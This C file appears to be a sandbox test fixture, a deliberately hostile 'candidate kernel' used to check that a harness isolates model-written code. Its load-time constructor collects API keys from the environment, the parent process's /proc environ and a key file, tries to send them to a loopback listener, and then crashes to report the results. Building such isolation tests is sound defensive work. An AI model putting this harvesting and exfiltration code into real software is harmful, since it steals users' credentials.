/* The body of a hostile candidate (the test puts a kernel after it and
 * fills in PROBE_PORT and PROBE_FILE): when it is loaded it looks for
 * secrets everywhere a model-written kernel could (its
 * environment, its parent's environment, a key file in the user's home),
 * tries to send what it found to a listener on loopback (IPv4 and IPv6),
 * prints all of it with a one-line account of what each way gave:
 *   probe: env=none parent=denied file=denied net4=blocked net6=blocked
 * (parent=read: the parent's environment, with no secret's value in it;
 * parent=SECRET: with one)
 * and crashes. Valid C and C++ (nvcc compiles it as the host code of a
 * .cu). */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef PROBE_PORT
#define PROBE_PORT 9
#endif
#ifndef PROBE_FILE
#define PROBE_FILE "/nonexistent"
#endif

extern char **environ;

static char probe_found[16384];
static size_t probe_used;

static void probe_keep(const char *what, const char *s, size_t n) {
  size_t room = sizeof(probe_found) - probe_used - 1;
  int k = snprintf(probe_found + probe_used, room, " %s=", what);
  if (k < 0 || (size_t)k >= room)
    return;
  probe_used += (size_t)k;
  room -= (size_t)k;
  if (n > room)
    n = room;
  for (size_t i = 0; i < n; i++) /* one line: NULs and newlines as spaces */
    probe_found[probe_used++] = s[i] && s[i] != '\n' ? s[i] : ' ';
  probe_found[probe_used] = '\0';
}

/* Read a whole small file: "denied", "none" or "read". */
static const char *probe_file(const char *what, const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0)
    return errno == ENOENT ? "none" : "denied";
  char buf[4096];
  ssize_t n = read(fd, buf, sizeof(buf));
  close(fd);
  if (n < 0)
    return "denied";
  probe_keep(what, buf, (size_t)n);
  return n > 0 ? "read" : "none";
}

static const char *probe_send(int family) {
  int s = socket(family, SOCK_STREAM, 0);
  if (s < 0)
    return "blocked";
  int rc;
  if (family == AF_INET) {
    struct sockaddr_in a;
    memset(&a, 0, sizeof(a));
    a.sin_family = AF_INET;
    a.sin_port = htons(PROBE_PORT);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    rc = connect(s, (struct sockaddr *)&a, sizeof(a));
  } else {
    struct sockaddr_in6 a;
    memset(&a, 0, sizeof(a));
    a.sin6_family = AF_INET6;
    a.sin6_port = htons(PROBE_PORT);
    a.sin6_addr = in6addr_loopback;
    rc = connect(s, (struct sockaddr *)&a, sizeof(a));
  }
  if (rc != 0) {
    close(s);
    return "blocked";
  }
  ssize_t w = write(s, probe_found, probe_used);
  close(s);
  return w > 0 ? "SENT" : "connected";
}

static void probe(void) {
  static int done;
  if (done++)
    return;
  const char *names[] = {"ANTHROPIC_API_KEY", "OPENAI_API_KEY",
                         "KL_WEBHOOK_URL", "KL_TEST_SECRET"};
  const char *env = "none";
  for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
    const char *v = getenv(names[i]);
    if (v) {
      probe_keep(names[i], v, strlen(v));
      env = "FOUND";
    }
  }
  for (char **e = environ; e && *e; e++)
    probe_keep("environ", *e, strlen(*e));
  char path[64];
  snprintf(path, sizeof(path), "/proc/%d/environ", (int)getppid());
  size_t mark = probe_used;
  const char *parent = probe_file("parent", path);
  /* read, but with a secret's value in it? */
  for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
    char want[64];
    snprintf(want, sizeof(want), "%s=", names[i]);
    const char *at = strstr(probe_found + mark, want);
    if (at && at[strlen(want)] && at[strlen(want)] != ' ')
      parent = "SECRET";
  }
  const char *file = probe_file("file", PROBE_FILE);
  const char *net4 = probe_send(AF_INET);
  const char *net6 = probe_send(AF_INET6);
  /* what it found first: the worker's log tail keeps the last line */
  fprintf(stderr, "probe found:%s\n", probe_found);
  fprintf(stderr, "probe: env=%s parent=%s file=%s net4=%s net6=%s\n", env,
          parent, file, net4, net6);
  fflush(stderr);
}

/* At load, before any check: then it crashes, so that what it printed
 * comes back as the CRASHED verdict's log tail. */
__attribute__((constructor)) static void probe_at_load(void) {
  probe();
  abort();
}
